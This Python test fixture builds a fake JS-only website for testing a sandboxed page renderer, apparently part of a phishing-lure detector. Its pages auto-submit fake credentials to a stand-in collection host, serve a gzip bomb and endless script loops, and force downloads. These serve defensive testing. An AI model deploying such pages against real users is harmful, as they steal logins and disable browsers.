"""A small replica site for the rendering tests: JS-only pages on fake hosts, recording every
request."""

from __future__ import annotations

import base64
import gzip
import json
import threading
import time
from collections.abc import Callable

from replica.http import Request, Response, Router, html, text

HOST = "www.jsonly.example"
CDN = "static.cdnhost.example"
API = "api.feedhost.example"
IMG = "img.pixhost.example"
COLLECT = "collect.phish.example"
MAXSIZE = 200_000  # LUREWATCH_RENDER_MAXSIZE used by the tests
DOWNLOAD_MARKER = b"LUREWATCH-DOWNLOAD-MARKER-0xC0FFEE"
ALL_METHODS = ("GET", "HEAD", "POST", "PUT", "DELETE")

APP = f"""<!doctype html><html><head><title>app</title>
<script src="https://{CDN}/app.js"></script></head>
<body><div id="root"></div><img src="https://{IMG}/hero.png"></body></html>"""

APP_JS = f"""
document.addEventListener('DOMContentLoaded', async () => {{
  const root = document.getElementById('root');
  const items = await (await fetch('https://{API}/items.json')).json();
  for (const it of items) {{
    const a = document.createElement('a'); a.href = it.href; a.textContent = it.label; root.appendChild(a);
  }}
  const xhr = new XMLHttpRequest();
  xhr.open('GET', 'https://{API}/more.json'); xhr.onload = () => {{
    for (const it of JSON.parse(xhr.responseText)) {{
      const a = document.createElement('a'); a.href = it.href; a.textContent = it.label; root.appendChild(a);
    }}
  }}; xhr.send();
}});
"""
ITEMS = [
    {"href": "https://movie-stream.example/watch/man-of-steel", "label": "Man of Steel full movie"}
]
MORE = [
    {"href": "https://movie-stream.example/watch/iron-man-3", "label": "Iron Man 3 full movie"}
]

_WRITTEN = base64.b64encode(b'<a href="/watch/fast-6">Fast &amp; Furious 6 HD</a>').decode()
WRITE = f"""<html><body><p>loading</p><script>
document.write(atob('{_WRITTEN}'));
</script></body></html>"""

BIG = f"""<html><body><p>page with a heavy script</p>
<script src="https://{CDN}/big.js"></script><script src="https://{CDN}/bomb.js"></script></body></html>"""

LOOP = "<html><body><p>endless</p><script>while (true) {}</script></body></html>"
LATE_LOOP = "<html><body><p>endless later</p><script>setTimeout(() => { while (true) {} }, 50)</script></body></html>"

FORM = f"""<html><body>
<form id="f" method="post" action="https://{COLLECT}/login"><input name="u" value="victim@example.com">
<input type="password" name="p" value="hunter2"><button id="b" type="submit">Sign in</button></form>
<form id="g" method="get" action="https://{COLLECT}/get"><input name="u" value="x"></form>
<p>form page</p>
<script>
document.getElementById('f').submit();
document.getElementById('g').requestSubmit();
document.getElementById('b').click();
navigator.sendBeacon && navigator.sendBeacon('https://{COLLECT}/beacon', 'u=victim');
fetch('https://{COLLECT}/xhr', {{method: 'POST', body: 'u=victim'}}).catch(() => {{}});
</script></body></html>"""

DOWNLOAD = """<html><body><p>download page</p><a id="d" href="/file.zip" download>get it</a>
<script>document.getElementById('d').click(); setTimeout(() => { location.href = '/file.zip'; }, 50);</script>
</body></html>"""


class RecordingRouter(Router):
    """A router that records ``(method, host, path)`` of every request it sees."""

    def __init__(self) -> None:
        super().__init__()
        self.log: list[tuple[str, str, str]] = []
        self.lock = threading.Lock()
        self.on_request: Callable[[Request], None] | None = None

    def dispatch(self, request: Request) -> Response:
        with self.lock:
            self.log.append((request.method, request.host.split(":")[0].lower(), request.path))
        if self.on_request is not None:
            self.on_request(request)
        return super().dispatch(request)

    def hosts(self) -> set[str]:
        return {host for _, host, _ in self.log}


def _js(body: str) -> Response:
    return text(body, content_type="application/javascript")


def _json(obj: object) -> Response:
    return Response(
        200,
        json.dumps(obj).encode(),
        [("Content-Type", "application/json"), ("Access-Control-Allow-Origin", "*")],
    )


def _bomb(_: Request) -> Response:
    body = gzip.compress(b"/*" + b" " * (20 * MAXSIZE) + b"*/")
    return Response(
        200, body, [("Content-Type", "application/javascript"), ("Content-Encoding", "gzip")]
    )


def _zip(_: Request) -> Response:
    return Response(
        200,
        b"PK\x03\x04" + DOWNLOAD_MARKER * 50,
        [
            ("Content-Type", "application/zip"),
            ("Content-Disposition", 'attachment; filename="movie.zip"'),
        ],
    )


def _slow(_: Request) -> Response:
    time.sleep(1.0)  # gives the test time to kill the browser while this page renders
    return html("<html><body><a href='/after-crash'>survived</a></body></html>")


def build_router() -> RecordingRouter:
    """The test site: pages on :data:`HOST`, their scripts and data on other hosts."""
    r = RecordingRouter()
    pages = {
        "/app": APP,
        "/write": WRITE,
        "/big": BIG,
        "/loop": LOOP,
        "/late-loop": LATE_LOOP,
        "/form": FORM,
        "/download": DOWNLOAD,
        "/plain": "<html><body><a href='/next'>plain</a></body></html>",
        "/huge": "<html><body>" + "x" * (2 * MAXSIZE) + "</body></html>",
    }
    for path, markup in pages.items():
        r.add(HOST, path, lambda _req, m=markup: html(m), methods=ALL_METHODS)
    r.add(HOST, "/redirect", lambda _r: Response(302, b"", [("Location", "/write")]))
    r.add(HOST, "/file.zip", _zip)
    r.add(HOST, "/slow", _slow)
    r.add(CDN, "/app.js", lambda _r: _js(APP_JS))
    r.add(CDN, "/big.js", lambda _r: _js("/*" + "x" * (2 * MAXSIZE) + "*/"))
    r.add(CDN, "/bomb.js", _bomb)
    r.add(API, "/items.json", lambda _r: _json(ITEMS))
    r.add(API, "/more.json", lambda _r: _json(MORE))
    r.add(IMG, "/hero.png", lambda _r: Response(200, b"\x89PNG", [("Content-Type", "image/png")]))
    r.add(COLLECT, "/.*", lambda _r: text("ok"), methods=ALL_METHODS)
    return r
